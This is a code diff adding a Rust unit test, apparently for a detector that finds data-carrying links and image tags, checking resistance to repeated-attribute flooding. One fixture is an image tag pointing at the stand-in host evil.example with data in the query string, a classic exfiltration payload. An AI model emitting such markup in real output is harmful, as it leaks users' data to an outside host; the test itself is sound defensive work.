@@ -193,6 +193,19 @@ mod tests {
         }
     }
 
+    #[test]
+    fn attributes_in_attributes_are_no_flood() {
+        for (attribute, most) in [("srcset=//a.example/b,", 20), ("href=//a.example/b", 2_100)] {
+            let times = 5_000;
+            let held: usize = written(&attribute.repeat(times)).iter().map(|link| link.text.len()).sum();
+            assert!(held < times * most, "{attribute}: {held}");
+        }
+        let image = format!("{}<img src=//evil.example/a.png?d={DATA}>", "href='".repeat(5_000));
+        assert_eq!(carrier(&image).as_deref(), Some("evil.example"));
+        let parts: String = (0..30_000).map(|part| format!("/{part}a{part}")).collect();
+        assert_eq!(carrier(&format!("https://evil.example{parts}")).as_deref(), Some("evil.example"));
+    }
+
     proptest! {
         #[test]
         fn data_is_found_wherever_it_stands(
